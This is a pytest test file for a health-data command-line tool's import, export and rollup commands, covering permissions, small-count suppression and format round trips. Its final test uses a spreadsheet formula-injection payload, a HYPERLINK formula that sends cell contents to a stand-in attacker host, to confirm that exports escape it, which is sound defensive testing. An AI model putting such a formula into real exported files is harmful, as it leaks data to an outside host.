"""`safehands data import|export|rollup` through click's runner."""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner

from safehands.cli.main import cli
from safehands.measurement.models import DataValue

HEADER = "org_unit,measure,period,numerator,denominator,value,comment\n"
GOOD = HEADER + "W1,falls.rate,2026-01,3,1000,,\nW2,falls.rate,2026-01,1,800,,\n"


@pytest.fixture
def run(db):
    def invoke(*args: str):
        return CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return invoke


def test_import_prints_the_summary_and_exits_0(enrolled, run, tmp_path):
    path = tmp_path / "values.csv"
    path.write_text(GOOD, encoding="utf-8")
    result = run("data", "import", str(path))
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {"status": "applied", "dry_run": False, "counts": {
        "created": 2, "updated": 0, "unchanged": 0, "ignored": 0}, "conflicts": []}


def test_import_dry_run_exits_0_without_writing(enrolled, run, tmp_path):
    path = tmp_path / "values.csv"
    path.write_text(GOOD, encoding="utf-8")
    result = run("data", "import", str(path), "--dry-run", "--strategy", "create")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["status"] == "valid"
    assert not DataValue.objects.exists()


def test_import_with_conflicts_exits_1_and_applies_nothing(enrolled, run, tmp_path,
                                                           make_user):
    make_user("ward.reporter", ("W1", "reporter"))
    path = tmp_path / "values.csv"
    path.write_text(GOOD, encoding="utf-8")
    result = run("data", "import", str(path), "--as", "ward.reporter")
    assert result.exit_code == 1
    summary = json.loads(result.stdout)
    assert summary["status"] == "conflicts"
    assert summary["conflicts"] == [{"row": 3, "field": "org_unit", "value": "W2",
                                     "message": "You may not enter data for Ward Two."}]
    assert not DataValue.objects.exists()


def test_import_unknown_user_is_an_error(enrolled, run, tmp_path):
    path = tmp_path / "values.csv"
    path.write_text(GOOD, encoding="utf-8")
    result = run("data", "import", str(path), "--as", "nobody")
    assert result.exit_code == 1 and "There is no active user 'nobody'." in result.output


@pytest.mark.parametrize("fmt", ["csv", "json", "fhir"])
def test_export_and_import_round_trip(enrolled, run, tmp_path, fmt):
    source = tmp_path / "values.csv"
    source.write_text(GOOD, encoding="utf-8")
    run("data", "import", str(source))
    out = tmp_path / f"out.{fmt}"
    result = run("data", "export", "--org", "H1", "--subtree", "--measure", "falls.rate",
                 "--from", "2026-01", "--to", "2026-12", "--format", fmt, "--out", str(out))
    assert result.exit_code == 0
    DataValue.objects.all().delete()
    result = run("data", "import", str(out), "--format", fmt)
    assert json.loads(result.stdout)["counts"]["created"] == 2
    if fmt == "csv":
        assert out.read_text(encoding="utf-8") == GOOD.replace(",,\n", ",,\n")


def test_export_unknown_org_is_an_error(enrolled, run, tmp_path):
    result = run("data", "export", "--org", "ZZ", "--format", "csv", "--out",
                 str(tmp_path / "x.csv"))
    assert result.exit_code == 1 and "ZZ" in result.output


def test_rollup_writes_the_contract_columns(enrolled, run, tmp_path):
    source = tmp_path / "values.csv"
    source.write_text(GOOD, encoding="utf-8")
    run("data", "import", str(source))
    out = tmp_path / "rollup.csv"
    result = run("data", "rollup", "--org", "H1", "--measure", "falls.rate", "--out", str(out))
    assert result.exit_code == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "period,numerator,denominator,value,reporting_units,expected_units"
    assert lines[1].startswith("2026-01,4,1800,")
    assert lines[1].endswith(",2,2")


@pytest.mark.parametrize(("as_user", "numerator", "note"), [
    ((), "2", "Wrote 5 data values to"),
    (("--as", "hospital.viewer"), "", "(3 with a small count suppressed)."),
    (("--as", "ward.reporter"), "2", "(1 with a small count suppressed)."),  # W2's 0
])
def test_export_as_a_user_suppresses_what_they_may_not_see(small, run, tmp_path, make_user,
                                                           as_user, numerator, note):
    make_user("hospital.viewer", ("H1", "viewer"))
    make_user("ward.reporter", ("W1", "reporter"), ("H1", "viewer"))
    out = tmp_path / "out.csv"
    result = run("data", "export", "--org", "W1", "--measure", "falls.rate", "--format", "csv",
                 "--out", str(out), *as_user)
    assert result.exit_code == 0
    assert out.read_text(encoding="utf-8").splitlines()[-1].startswith(
        f"W1,falls.rate,2026-01,{numerator},1000,")
    result = run("data", "export", "--org", "H1", "--subtree", "--format", "csv",
                 "--out", str(out), *as_user)
    assert result.exit_code == 0 and note in result.stderr
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header.endswith(",comment,suppressed") == bool(as_user)


def test_rollup_as_a_viewer_suppresses_small_counts(enrolled, run, tmp_path, make_user):
    path = tmp_path / "values.csv"
    path.write_text(GOOD, encoding="utf-8")  # H1 in 2026-01: 3 + 1 falls, a small count
    run("data", "import", str(path))
    make_user("leader", ("NO", "viewer"))
    out = tmp_path / "rollup.csv"
    result = run("data", "rollup", "--org", "H1", "--measure", "falls.rate", "--out", str(out),
                 "--as", "leader")
    assert result.exit_code == 0, result.output
    assert "1 with small counts suppressed" in result.stderr
    assert out.read_text().splitlines() == [
        "period,numerator,denominator,value,reporting_units,expected_units,suppressed",
        "2026-01,,1800,,2,2,true"]
    make_user("ward", ("H1", "reporter"))
    run("data", "rollup", "--org", "H1", "--measure", "falls.rate", "--out", str(out),
        "--as", "ward")
    assert out.read_text().splitlines()[1].startswith("2026-01,4,1800,")


def test_export_writes_a_formula_comment_as_text_and_imports_it_back(enrolled, run, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1)'
    source = tmp_path / "values.csv"
    quoted = formula.replace('"', '""')
    source.write_text(HEADER + f'W1,falls.rate,2026-01,3,1000,,"{quoted}"\n', encoding="utf-8")
    assert run("data", "import", str(source)).exit_code == 0
    assert DataValue.objects.get().comment == formula
    out = tmp_path / "out.csv"
    run("data", "export", "--org", "W1", "--format", "csv", "--out", str(out))
    assert "'" + formula.replace('"', '""') in out.read_text(encoding="utf-8")
    result = run("data", "import", str(out))
    assert json.loads(result.stdout)["counts"]["unchanged"] == 1
    assert DataValue.objects.get().comment == formula
